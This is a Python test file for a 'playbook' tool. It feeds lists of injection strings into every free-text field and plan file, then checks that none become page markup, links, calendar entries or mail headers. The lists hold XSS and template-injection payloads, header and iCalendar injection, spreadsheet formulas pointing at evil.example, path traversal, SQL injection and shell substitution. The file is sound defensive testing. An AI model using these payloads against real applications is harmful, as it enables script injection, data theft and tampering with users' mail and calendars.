"""Whatever is typed into any field, or stands in a plan file, brings no element and no attribute into an answer.

The texts are of the kinds that lists of naughty strings have: tags, ways out of an attribute, templates, control
and bidirectional characters, and beginnings of lines that mean something to mail, calendars and spreadsheets.
"""

import json
import re
from collections.abc import Iterator, Sequence
from copy import deepcopy
from email import message_from_string
from functools import cache
from importlib.resources import files
from itertools import cycle
from typing import Any

import icalendar
import pytest
from turbohtml import Element, parse

from playbook.boundary import run
from playbook.content import read_toml
from playbook.tools import NAMES
from publish.site.markup import LINK
from tests.playbook.notes.records import EVENTS, FULL

Path = tuple[str | int, ...]
Markup = set[tuple[str, str]]
"""Names of elements, each with the name of an attribute that it has, or with nothing."""

OFFERS = {
    "offers": [
        {"employer": "Aireside", "pay": "£32,000", "benefits": "a parking space"},
        {"employer": "Calder", "pay": "£31,000", "benefits": "lunch"},
    ]
}
RECORD: dict[str, Any] = {**FULL, **OFFERS, "promise": "by the end of next week", "needs": "calm"}
CHOSEN = {"country", "region", "format", "sure", "kind"}
"""Fields with a list to choose from."""
DAY_OR_TIME = re.compile(r"\d{4}-\d\d-\d\d|\d\d:\d\d")
TAGS = [
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title></style></script><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>a</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<template><script>alert(1)</script></template>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input type=submit>",
    "<p style=position:fixed;inset:0>",
    "<bdi>a</bdi>",
    "<",
    "<a",
    "</",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<ſcript>alert(1)</ſcript>",
    "＜script＞alert(1)＜/script＞",
]
WAYS_OUT = [
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><img src=x onerror=alert(1)>',
    "` onmouseover=alert(1)",
    '\\"><script>alert(1)</script>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\"}';alert(1);//",
]
TEMPLATES = [
    "{{ 7 * 191 }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for each in [7] %}{{ each * 191 }}{% endfor %}",
    "{# comment #}",
    "${7*191}",
    "#{7*191}",
    "<%= 7 * 191 %>",
    "%s %d %n %(name)s",
    "{0} {name!r} {0.__class__}",
]
CHARACTERS = [
    "\0",
    "a\0b",
    "\x1b[31mred",
    "\x7f\x80\x9f",
    "\ufeffa",
    "\u202eevil\u202c",
    "\u2066a\u2069\u2067b",
    "\u200b\u200c\u200d\u2060",
    "a\u2028b\u2029c",
    "a\x0bb\x0cc\x85d",
    "\ud800",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324algo",
    "😍👩🏽‍🚀🇳🇵",
    "﷽",
    "الكل في المجمو عة",
    "ﾟ･✿ヾ╲(｡◕‿◕｡)╱✿･ﾟ",
    "ЁЂЃЄЅІЇЈЉЊ",
    "a" * 5_000,
    "(" * 500 + ")" * 500,
    "\n" * 200,
]
LINES = [
    "a\r\nBcc: evil@evil.example\r\n\r\nhello",
    "a\nBEGIN:VEVENT\nUID:evil\nEND:VEVENT",
    "a\rATTENDEE:mailto:evil@evil.example",
    "a\\nATTACH:https://evil.example",
    '=HYPERLINK("https://evil.example")',
    "+1+1",
    "@SUM(1)",
    "../../../../etc/passwd",
    "CON",
    "undefined",
    "None",
    "NaN",
    "1e400",
    "-1",
    "'; DROP TABLE interviews; --",
    "$(touch /tmp/evil)",
    "http://evil.example/?a=<b>",
]
ATTACKS = [*TAGS, *WAYS_OUT, *TEMPLATES, *CHARACTERS, *LINES]
TEXT_MESSAGE = re.compile(r"sms:[+\d]*\?&body=[\w.~%-]*")
"""A link that opens a text message, with what it says, encoded."""
WORST = [
    "\"'></textarea><img src=x onerror=alert(1)>{{ 7 * 191 }}",
    "a\r\nBcc: e@evil.example\r\nBEGIN:VEVENT",
]
COUNTED = "1337"
"""What comes of a template that was run."""


def list_texts(value: Any, path: Path = ()) -> Iterator[Path]:
    """Where in a record a reader types freely."""
    if isinstance(value, dict):
        for key, each in value.items():
            if key not in CHOSEN:
                yield from list_texts(each, (*path, key))
    elif isinstance(value, list):
        for number, each in enumerate(value):
            yield from list_texts(each, (*path, number))
    elif not DAY_OR_TIME.fullmatch(value):
        yield path


TEXTS = list(list_texts(RECORD))


def put(record: dict[str, Any], path: Path, text: str) -> None:
    *way, last = path
    place: Any = record
    for step in way:
        place = place[step]
    place[last] = text


def answer(tool: str, record: object, **more: object) -> Any:
    asked = {"record": record, "today": "2026-11-22", "stamp": "2026-11-22T10:00:00Z", **more}
    return json.loads(run(tool, json.dumps(asked)))


def list_html(answer: Any) -> Iterator[str]:
    yield answer["html"]
    yield from answer["readings"].values()


def list_elements(answer: Any) -> Iterator[Element]:
    for html in list_html(answer):
        yield from (each for each in parse(html).descendants if isinstance(each, Element))


def read_markup(answer: Any) -> Markup:
    return {(each.tag, name) for each in list_elements(answer) for name in ("", *each.attrs)}


@cache
def read_harmless_markup() -> frozenset[tuple[str, str]]:
    """What answers are made of: of the full record in each situation, of what is missing, and of mistakes."""
    records = [{**RECORD, "events": events} for events in ([], *EVENTS.values())]
    partial = [{"ended_on": "2026-11-20"}, {}, {**RECORD, "promise": "some time"}]
    odd = [filled([text]) for text in ("Hello", "hello there, all of you", "12", "?", "a" * 900)]
    plain = ("Hello", "We'd like to offer you the job.\n\nTell us by Friday 27 November, we hope.")
    odd += [fill_every_field(text) for text in plain]
    answers = (answer(tool, record) for tool in NAMES for record in (*records, *partial, *odd))
    return frozenset().union(*map(read_markup, answers))


def filled(texts: Sequence[str]) -> dict[str, Any]:
    """The record with one of these in every free text, each in its turn."""
    record = deepcopy(RECORD)
    for path, text in zip(TEXTS, cycle(texts), strict=False):
        put(record, path, text)
    return record


def fill_every_field(text: str) -> dict[str, Any]:
    """A record with this in each field that there is, of whatever kind, two rows to a list."""
    fields = read_toml(files("playbook").joinpath("fields.toml"))
    return {
        name: [{each["id"]: text for each in field["fields"]}] * 2 if "fields" in field else text
        for name, field in fields.items()
    }


def check(given: Any) -> None:
    assert read_markup(given) - read_harmless_markup() == set()
    html = "".join(list_html(given))
    assert COUNTED not in html + given["text"] + given["status"]
    addresses = [
        str(each.attrs.get(name) or "") for each in list_elements(given) for name in ("href", "src")
    ]
    assert [
        each for each in addresses if not (LINK.fullmatch(each) or TEXT_MESSAGE.fullmatch(each))
    ] == []
    for download in given["downloads"]:
        check_file(download["filename"], download["text"])


def check_file(name: str, text: str) -> None:
    assert re.fullmatch(r"[\w. -]+", name), name
    if name.endswith(".ics"):
        calendar = icalendar.Calendar.from_ical(text)
        kinds = {entry.name for entry in calendar.walk()}
        assert kinds <= {"VCALENDAR", "VEVENT", "VTIMEZONE", "STANDARD", "DAYLIGHT"}
        uids = [str(entry["UID"]) for entry in calendar.walk("VEVENT")]
        assert "evil" not in uids
        assert not [
            entry for entry in calendar.walk("VEVENT") if "ATTENDEE" in entry or "ATTACH" in entry
        ]
    elif name.endswith(".eml"):
        assert not {"bcc", "cc"} & {header.lower() for header in message_from_string(text)}


@pytest.mark.parametrize("tool", NAMES)
@pytest.mark.parametrize("first", range(0, len(ATTACKS), 4))
def test_nothing_that_is_typed_becomes_part_of_the_page(tool: str, first: int) -> None:
    check(answer(tool, filled(ATTACKS[first:] + ATTACKS[:first])))


@pytest.mark.parametrize("tool", NAMES)
@pytest.mark.parametrize("text", WORST, ids=["tags", "lines"])
def test_nothing_that_is_typed_into_one_field_becomes_part_of_the_page(
    tool: str, text: str
) -> None:
    for path in TEXTS:
        record = deepcopy(RECORD)
        put(record, path, text)
        check(answer(tool, record))


@pytest.mark.parametrize("tool", NAMES)
@pytest.mark.parametrize("first", range(0, len(ATTACKS), 20))
def test_nothing_in_a_plan_file_becomes_part_of_the_page(tool: str, first: int) -> None:
    record = filled(ATTACKS[first:] + ATTACKS[:first])
    plan = {"format": "closing-playbook/plan", "version": 1, "record": record}
    check(answer(tool, {}, plan=json.dumps(plan)))


@pytest.mark.parametrize("tool", NAMES)
def test_nothing_in_any_field_there_is_becomes_part_of_the_page(tool: str) -> None:
    for text in ATTACKS:
        check(answer(tool, fill_every_field(text)))


def test_the_check_sees_what_got_through() -> None:
    page = answer("notes", RECORD)
    page["html"] += "<img src=x onerror=alert(1)>"
    with pytest.raises(AssertionError):
        check(page)
